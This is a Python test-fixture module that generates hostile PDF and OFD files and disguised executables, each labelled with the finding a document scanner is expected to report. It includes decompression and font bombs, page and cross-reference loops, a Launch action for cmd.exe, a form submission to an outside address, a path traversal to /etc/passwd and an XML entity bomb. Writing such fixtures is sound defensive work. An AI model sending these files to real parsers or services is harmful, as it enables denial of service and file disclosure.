"""Hostile PDF and OFD, and files that are not what their name says."""

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.archives import zipped
from tests.hostile.kinds import Kind, kind, zlib_zeros
from tests.hostile.markup import BILLION
from tests.unit.extractors import documents

Change = Callable[[pikepdf.Pdf], None]


def pdf(change: Change | None = None, **saved: object) -> bytes:
    """A document of one page, changed."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change is not None:
        change(document)
    target = io.BytesIO()
    document.save(target, static_id=True, **saved)  # type: ignore[arg-type]  # whatever the kind asks for
    return target.getvalue()


def opening(**action: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary({f"/{key}": value for key, value in action.items()})

    return pdf(change)


def annotated(**keys: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary({"/Type": Name.Annot, "/Rect": Array([0, 0, 9, 9])} | {f"/{key}": keys[key] for key in keys})
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return pdf(change)


def carrying(name: str, content: bytes) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = content

    return pdf(change)


def raw(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A document of these objects, the first of which is its root, with a table that fits."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(body)
    body += table + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(body)


_ROOT = b"<</Type/Catalog/Pages 2 0 R>>"
_TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>/Contents 4 0 R>>"


def stream(content: bytes, keys: bytes) -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), keys, content)


def filtered(content: bytes, filters: bytes) -> bytes:
    return raw([_ROOT, _TREE, _PAGE, stream(content, b"/Filter[%s]" % filters)])


def thrice() -> bytes:
    return filtered(zlib.compress(zlib.compress(zlib_zeros(200))), b"/FlateDecode/FlateDecode/FlateDecode")


def lzw(codes: list[int]) -> bytes:
    """Codes of LZW as bits, which grow as the table does (ISO 32000-1, 7.4.4.2)."""
    bits = known = 0
    width = 9
    written = bytearray()
    for code in codes:
        bits = bits << width | code
        known = 257 if code == 256 else known + 1
        written.append(width)
        width = min(12, max(9, (known + 1).bit_length()))
    total = sum(written)
    return (bits << -total % 8).to_bytes((total + 7) // 8, "big")


def growing(codes: int = 3_800, blocks: int = 20) -> bytes:
    """Runs of one letter, each longer by one than the run before."""
    return lzw([*[256, 97, *range(258, 258 + codes - 1)] * blocks, 257])


def font_bomb() -> bytes:
    """The text of a page is set in a font whose file inflates to 600 MiB (ISO 32000-1, 9.9)."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>"
    font = (
        b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]"
        b"/Encoding/WinAnsiEncoding/FontDescriptor 6 0 R>>"
    )
    descriptor = (
        b"<</Type/FontDescriptor/FontName/A/Flags 32/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 9/Descent 0"
        b"/CapHeight 9/StemV 1/FontFile2 7 0 R>>"
    )
    packed = zlib_zeros(600)
    program = stream(packed, b"/Length1 %d/Filter/FlateDecode" % (600 << 20))
    return raw([_ROOT, _TREE, page, stream(b"BT /F 9 Tf (A) Tj ET", b""), font, descriptor, program])


def lettered() -> bytes:
    return filtered(zlib_zeros(300).hex().encode() + b">", b"/ASCIIHexDecode/FlateDecode")


def packed_objects() -> bytes:
    """Objects in a stream that inflates to 1 GiB, which qpdf has to unpack to find the root (ISO 32000-1, 7.5.7)."""
    body = bytearray(b"%PDF-1.7\n")
    at_objects = len(body)
    body += b"1 0 obj\n" + stream(zlib_zeros(1_024), b"/Type/ObjStm/N 3/First 20/Filter/FlateDecode") + b"\nendobj\n"
    at_table = len(body)
    rows = [(0, 0, 0), (1, at_objects, 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, at_table, 0)]
    table = zlib.compress(b"".join(struct.pack(">BLB", *row) for row in rows))
    body += b"5 0 obj\n" + stream(table, b"/Type/XRef/Size 6/W[1 4 1]/Root 2 0 R/Filter/FlateDecode") + b"\nendobj\n"
    return bytes(body) + b"startxref\n%d\n%%%%EOF\n" % at_table


def circling_pages() -> bytes:
    return raw([_ROOT, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"])


def many_pages(count: int = 1_000_000) -> bytes:
    tree = b"<</Type/Pages/Kids 4 0 R/Count %d>>" % count
    return raw(
        [_ROOT, tree, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>", b"[" + b"3 0 R " * count + b"]"]
    )


def circling_table() -> bytes:
    content = raw([_ROOT, _TREE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"], b"/Prev 0000000000")
    return content.replace(b"/Prev 0000000000", b"/Prev %010d" % content.rindex(b"xref\n0"))


def added_to(times: int = 10_000) -> bytes:
    body = bytearray(raw([_ROOT, _TREE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"]))
    last = body.rindex(b"xref\n0")
    for _ in range(times):
        start = len(body)
        body += b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (last, start)
        last = start
    return bytes(body)


def unfolding(levels: int = 30) -> bytes:
    forms = [
        stream(
            b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (6 + level)
        )
        for level in range(levels)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
    return raw([_ROOT, _TREE, page, stream(b"/F Do", b""), *forms, last])


def locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def changed_ofd(**changed: bytes) -> bytes:
    parts = documents.unzipped(documents.ofd())
    for name, content in changed.items():
        found = next(part for part in parts if part.endswith(f"{name}.xml"))
        parts[found] = content
    return documents.zipped(parts)


def ofd_with(name: str, old: bytes, new: bytes) -> bytes:
    parts = documents.unzipped(documents.ofd())
    found = next(part for part in sorted(parts) if part.endswith(name))
    assert old in parts[found]
    parts[found] = parts[found].replace(old, new)
    return documents.zipped(parts)


def ofd_without_page() -> bytes:
    parts = documents.unzipped(documents.ofd())
    del parts[next(part for part in parts if part.endswith("Content.xml"))]
    return documents.zipped(parts)


PDF_KINDS: tuple[Kind, ...] = (
    kind("pdf-javascript", "公告.pdf", lambda: opening(S=Name.JavaScript, JS="app.alert(1)"), "pdf-javascript"),
    kind("pdf-launch", "公告.pdf", lambda: opening(S=Name.Launch, F="cmd.exe"), "pdf-launch"),
    kind("pdf-submit", "公告.pdf", lambda: opening(S=Name.SubmitForm, F="http://198.51.100.7/"), "pdf-submit"),
    kind(
        "pdf-link-to-share",
        "公告.pdf",
        lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file:////198.51.100.7/a")),
        "pdf-local-link",
    ),
    kind("pdf-rich-media", "公告.pdf", lambda: annotated(Subtype=Name.RichMedia), "pdf-multimedia"),
    kind("pdf-embedded-program", "公告.pdf", lambda: carrying("a.exe", b"MZ" + bytes(90)), "pdf-embedded-program"),
    kind(
        "pdf-outside-stream",
        "公告.pdf",
        lambda: raw([_ROOT, _TREE, _PAGE, stream(b"", b"/F(\\\\\\\\198.51.100.7\\\\a)")]),
        "pdf-outside-data",
    ),
    kind("pdf-stacked-streams", "公告.pdf", thrice, "pdf-bomb"),
    kind("pdf-growing-stream", "公告.pdf", lambda: filtered(growing(), b"/LZWDecode"), "pdf-bomb"),
    kind("pdf-lettered-stream", "公告.pdf", lettered, "pdf-bomb"),
    kind("pdf-font-bomb", "公告.pdf", font_bomb, "pdf-bomb"),
    kind("pdf-packed-objects", "公告.pdf", packed_objects, "pdf-bomb"),
    kind("pdf-circling-pages", "公告.pdf", circling_pages, "pdf-page-loop"),
    kind("pdf-many-pages", "公告.pdf", many_pages, "pdf-too-many-pages", "file-damaged"),
    kind("pdf-circling-table", "公告.pdf", circling_table, "file-damaged", "file-repaired"),
    kind("pdf-added-to", "公告.pdf", added_to, "pdf-earlier-versions", verdict="contained"),
    kind("pdf-encrypted", "公告.pdf", locked, "file-encrypted"),
    kind("pdf-unfolding-forms", "公告.pdf", unfolding, "pdf-bomb"),
    kind("pdf-and-zip", "公告.pdf", lambda: pdf() + zipped({"a.txt": b"a"}), "pdf-second-format"),
    kind(
        "pdf-and-html",
        "公告.pdf",
        lambda: b"<html><script>alert(1)</script>" + pdf(),
        "pdf-second-format",
        "second-format",
        "extension-mismatch",
    ),
    kind(
        "program-and-pdf",
        "公告.pdf",
        lambda: b"MZ" + bytes(60) + pdf(),
        "pdf-second-format",
        "second-format",
        "extension-mismatch",
    ),
)
OFD_KINDS: tuple[Kind, ...] = (
    kind("ofd-missing-page", "公告.ofd", ofd_without_page, "file-damaged", "ofd-part-missing"),
    kind(
        "ofd-traversal",
        "公告.ofd",
        lambda: ofd_with("Document.xml", b"Content.xml", b"../../../../etc/passwd"),
        "ofd-part-missing",
        "file-damaged",
    ),
    kind(
        "ofd-entity-bomb",
        "公告.ofd",
        lambda: changed_ofd(OFD=BILLION + b"<d>&z;</d>"),
        "xml-entity-bomb",
        "file-damaged",
    ),
)
DISGUISES: tuple[Kind, ...] = (
    kind(
        "program-named-pdf",
        "公告.pdf",
        lambda: b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0L\x01" + bytes(400),
        "extension-mismatch",
    ),
    kind("elf-named-pdf", "公告.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(400), "extension-mismatch"),
    kind("empty", "公告.pdf", lambda: b"", "file-empty"),
    kind("zeros", "公告.pdf", lambda: bytes(4 << 20), "extension-mismatch", "format-unknown"),
)
KINDS = (*PDF_KINDS, *OFD_KINDS, *DISGUISES)
